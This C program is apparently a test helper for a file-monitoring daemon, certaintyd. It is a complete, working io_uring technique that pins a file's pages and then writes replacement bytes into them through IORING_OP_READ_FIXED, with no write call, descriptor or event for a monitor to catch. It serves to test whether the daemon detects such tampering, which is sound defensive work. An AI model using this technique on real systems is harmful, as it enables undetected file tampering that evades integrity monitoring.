/* The io_uring attack on certaintyd (issue 25 #2), for tests/daemon.rs only.
 *
 * usage: iouring_write TARGET EVIL DELAY_MS
 *  1. prints "opening <CLOCK_REALTIME ns>"; opens TARGET read-write, maps it shared, reads
 *     every page (so the pages are mapped writable without a write fault later);
 *  2. registers the mapping as an io_uring fixed buffer (the pages stay pinned), unmaps it
 *     and closes TARGET: no descriptor or mapping is left for a writer scan to find;
 *     prints "pinned";
 *  3. after DELAY_MS, writes EVIL's bytes into the pinned pages with IORING_OP_READ_FIXED
 *     (the kernel copies from EVIL into TARGET's page cache: no write(2), no event), prints
 *     "written", then restores the saved bytes the same way and prints "restored".
 * Exits 77 when the kernel refuses io_uring (not built in, or disabled by sysctl).
 * Raw system calls: no liburing needed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static int ring_fd;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;

static void die(const char *what) { perror(what); exit(1); }

static int read_fixed(int fd, void *addr, unsigned len) {
    unsigned tail = *sq_tail, idx = tail & *sq_mask;
    struct io_uring_sqe *sqe = &sqes[idx];
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_READ_FIXED;
    sqe->fd = fd;
    sqe->addr = (uint64_t)(uintptr_t)addr;
    sqe->len = len;
    sqe->off = 0;
    sqe->buf_index = 0;
    sq_array[idx] = idx;
    __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, ring_fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        die("io_uring_enter");
    unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
    if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) {
        fprintf(stderr, "no completion\n");
        exit(1);
    }
    int res = cqes[head & *cq_mask].res;
    __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: %s TARGET EVIL DELAY_MS\n", argv[0]);
        return 2;
    }
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    ring_fd = syscall(__NR_io_uring_setup, 4, &p);
    if (ring_fd < 0) {
        perror("io_uring_setup");
        return 77;
    }
    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd,
                    IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd,
                    IORING_OFF_CQ_RING);
    sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) die("mmap ring");
    sq_tail = (unsigned *)(sq + p.sq_off.tail);
    sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    sq_array = (unsigned *)(sq + p.sq_off.array);
    cq_head = (unsigned *)(cq + p.cq_off.head);
    cq_tail = (unsigned *)(cq + p.cq_off.tail);
    cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);

    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    printf("opening %lld\n", (long long)now.tv_sec * 1000000000LL + now.tv_nsec);
    fflush(stdout);
    int fd = open(argv[1], O_RDWR);
    if (fd < 0) die("open target");
    struct stat st;
    if (fstat(fd, &st) < 0) die("fstat");
    size_t len = st.st_size;
    volatile char *map = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (map == MAP_FAILED) die("mmap target");
    char *saved = malloc(len);
    for (size_t i = 0; i < len; i++) saved[i] = map[i];
    struct iovec iov = {(void *)map, len};
    if (syscall(__NR_io_uring_register, ring_fd, IORING_REGISTER_BUFFERS, &iov, 1) < 0)
        die("io_uring_register");
    munmap((void *)map, len);
    close(fd);
    printf("pinned\n");
    fflush(stdout);

    usleep(atoi(argv[3]) * 1000);
    int evil = open(argv[2], O_RDONLY);
    if (evil < 0) die("open evil");
    int n = read_fixed(evil, (void *)map, len);
    if (n < 0) {
        fprintf(stderr, "READ_FIXED: %s\n", strerror(-n));
        return 1;
    }
    printf("written %d\n", n);
    fflush(stdout);
    char tmpl[] = "/tmp/iouring-saved-XXXXXX";
    int keep = mkstemp(tmpl);
    if (keep < 0 || write(keep, saved, len) != (ssize_t)len) die("save");
    unlink(tmpl);
    n = read_fixed(keep, (void *)map, len);
    printf("restored %d\n", n);
    return 0;
}
